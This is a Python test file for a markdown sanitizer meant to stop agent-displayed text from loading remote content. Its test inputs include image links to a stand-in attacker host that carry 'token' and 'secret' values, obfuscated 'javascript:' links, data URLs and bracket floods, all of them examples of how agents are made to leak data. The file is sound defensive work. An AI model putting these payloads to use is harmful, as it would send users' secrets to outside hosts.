"""Passages and answers shown to agents load nothing by themselves and keep only web and mail links live."""

from __future__ import annotations

import pytest

from core.answers.safe_markdown import safe_markdown


@pytest.mark.parametrize(("text", "expected"), [
    ("Siehe ![Diagramm](https://evil.example/p.png?q=token) oben.",
     "Siehe [🖼 Diagramm](https://evil.example/p.png?q=token) oben."),
    ('Logo ![](https://cdn.example/l.png "Titel")', 'Logo [🖼 image](https://cdn.example/l.png "Titel")'),
    ("![x](data:image/png;base64,AAAA)", "[🖼 x] (data:image/png;base64,AAAA)"),
    ("Bild ![Karte][karte]", "Bild [🖼 Karte][karte]"),
    ('Vor <img src="https://evil.example/t.gif?q=secret" alt="t"> nach',
     "Vor [🖼 img](https://evil.example/t.gif?q=secret) nach"),
    ("<IMG SRC=javascript:alert(1)>", "🖼 img (not shown)"),
    ("<img src=x" + " y" * 1500 + ">", "\\<img src=x" + " y" * 1500 + ">"),
    ('<iframe src="https://evil.example/frame"></iframe>', "[🖼 iframe](https://evil.example/frame)</iframe>"),
    ("[Klick](javascript:alert(1))", "[Klick] (javascript:alert(1))"),
    ("[Klick]( JaVaScRiPt:alert)", "[Klick] ( JaVaScRiPt:alert)"),
    ("[Klick](java&#115;cript:alert)", "[Klick] (java&#115;cript:alert)"),
    ("[Klick](<data:text/html,hi>)", "[Klick] (\\<data:text/html,hi>)"),
    ("[Weg](//evil.example/x)", "[Weg] (//evil.example/x)"),
    ("<data:text/html,hello>", "\\<data:text/html,hello>"),
    ("[ref]: javascript:alert(1)\n\n[a][ref]", "\\[ref]: javascript:alert(1)\n\n[a][ref]"),
    ("[ok]: https://docs.example/a\n", "[ok]: https://docs.example/a\n"),
    ("[Auth](https://docs.example/auth#token) · [Mail](mailto:team@example.org) · [Rel](../auth.md#t)",
     "[Auth](https://docs.example/auth#token) · [Mail](mailto:team@example.org) · [Rel](../auth.md#t)"),
    ("<https://docs.example/a>", "<https://docs.example/a>"),
    ("Code `![x](https://e.example/i.png)` bleibt.", "Code `![x](https://e.example/i.png)` bleibt."),
    ("```html\n<img src=\"https://e.example/i.png\">\n```\n![y](https://e.example/j.png)",
     "```html\n<img src=\"https://e.example/i.png\">\n```\n[🖼 y](https://e.example/j.png)"),
    ("画像 ![図](https://例え.jp/図.png) です", "画像 [🖼 図](https://例え.jp/図.png) です"),
])
def test_safe_markdown(text, expected):
    assert safe_markdown(text) == expected


def test_plain_markdown_is_unchanged():
    text = "# Tokens\n\n- **Erneuern**: `POST /v1/token` [docs](https://docs.example/t)\n\n> 注意 [1]\n"
    assert safe_markdown(text) == text


def test_hostile_runs_of_brackets_are_handled_whole():
    text = "[" * 50_000 + "](" * 50_000 + "<img" * 20_000 + "![" * 50_000
    shown = safe_markdown(text)
    assert "![" not in shown and "<img" not in shown.replace("\\<img", "")

